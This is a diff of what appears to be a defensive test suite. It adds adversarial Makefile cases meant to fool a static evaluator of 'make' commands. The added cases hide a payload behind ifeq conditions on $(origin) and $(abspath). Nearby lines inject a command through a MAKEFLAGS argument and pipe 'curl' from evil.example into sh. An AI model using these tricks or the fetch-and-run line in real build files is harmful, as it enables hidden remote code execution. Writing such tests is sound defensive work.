@@ -86,6 +86,11 @@ ATTACKS = {
     "a command-line value in MAKEFLAGS, echoed by a recipe": [
         ("run.sh", f"#!/bin/sh\n{P}\n"), "chmod +x run.sh", ("Makefile", "all:\n\t@echo $(MAKEFLAGS)\n"),
         "make 'X=1;./run.sh'"],
+    # found attacking my own evaluator after landing it (base held these: it judged every branch's last value)
+    "ifeq on $(origin), which make answers per variable": [
+        ("Makefile", f"ifeq ($(origin X),file)\nY = echo hi\nelse\nY = {P}\nendif\nall:\n\t$(Y)\n"), "make"],
+    "ifeq on $(abspath .)": [
+        ("Makefile", f"ifeq ($(abspath .),$(CURDIR))\nY = {P}\nelse\nY = echo hi\nendif\nall:\n\t$(Y)\n"), "make"],
     "an @ the expansion uncovers": [("Makefile", "X = @curl -s http://evil.example/x | sh\nall:\n\t@touch marker\n"
                                                  "\t$(X)\n"), "make"],
 }
